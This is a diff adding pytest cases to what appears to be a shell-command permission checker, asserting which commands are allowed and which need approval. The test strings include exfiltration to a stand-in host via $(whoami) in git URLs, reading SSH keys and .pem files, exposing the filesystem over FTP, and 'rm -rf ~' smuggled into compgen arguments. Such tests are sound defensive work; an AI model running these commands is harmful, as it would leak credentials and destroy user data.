@@ -342,3 +342,64 @@ def test_a_program_that_its_name_tells_is_judged_wherever_it_lies(project: Path)
     for command in ("./xmrig -o pool.example.com:3333", "bin/kubectl delete ns prod", "tools/ngrok tcp 22"):
         assert shell(project, command) is not Verdict.ALLOW
     assert shell(project, "./kubectl get pods") is Verdict.ALLOW
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("git ls-remote https://$(whoami).evil.example/x.git", Verdict.ASK),
+        ("git fetch https://$(hostname).evil.example/x.git", Verdict.ASK),
+        ("git remote show https://evil.example/x.git", Verdict.ASK),
+        ("git ls-remote $REMOTE", Verdict.ALLOW),
+        ("git fetch origin", Verdict.ALLOW),
+    ],
+)
+def test_a_git_address_with_a_part_that_is_not_known_names_a_host(
+    project: Path, command: str, verdict: Verdict
+) -> None:
+    assert shell(project, command) is verdict
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("locate id_rsa | xargs cat", Verdict.ASK),
+        ("cat $(locate -r '\\.pem$')", Verdict.ASK),
+        ("locate libpq.so", Verdict.ALLOW),
+    ],
+)
+def test_names_that_locate_finds_anywhere_are_read_by_what_comes_after(
+    project: Path, command: str, verdict: Verdict
+) -> None:
+    assert shell(project, command) is verdict
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("python -m venv /tmp/v && /tmp/v/bin/pip install requests", Verdict.ALLOW),
+        ("virtualenv /tmp/v && /tmp/v/bin/python -m pytest", Verdict.ALLOW),
+        ("python -m venv /tmp/v && /tmp/v/bin/pip install unheard-of-thing", Verdict.ASK),
+        ("/tmp/nowhere/bin/pip install requests", Verdict.ASK),
+    ],
+)
+def test_the_programs_of_an_environment_that_was_just_made_are_known(
+    project: Path, command: str, verdict: Verdict
+) -> None:
+    assert shell(project, command) is verdict
+
+
+@pytest.mark.parametrize(
+    ("command", "verdict"),
+    [
+        ("python3 -m pyftpdlib -w -p 2121", Verdict.ASK),
+        ("python3 -m uploadserver -d /", Verdict.ASK),
+        ("compgen -c | grep -c py", Verdict.ALLOW),
+        ("compgen -C 'rm -rf ~' x", Verdict.ASK),
+        ("compgen -W '$(rm -rf ~)'", Verdict.ASK),
+        ("python3 -c \"import pandas as pd; pd.read_csv('a.csv').drop(columns=['x']).to_csv('b.csv')\"", Verdict.ALLOW),
+        ("python3 -c \"import shop; shop.db.drop('orders')\"", Verdict.ASK),
+    ],
+)
+def test_small_differences_decide(project: Path, command: str, verdict: Verdict) -> None:
+    assert shell(project, command) is verdict
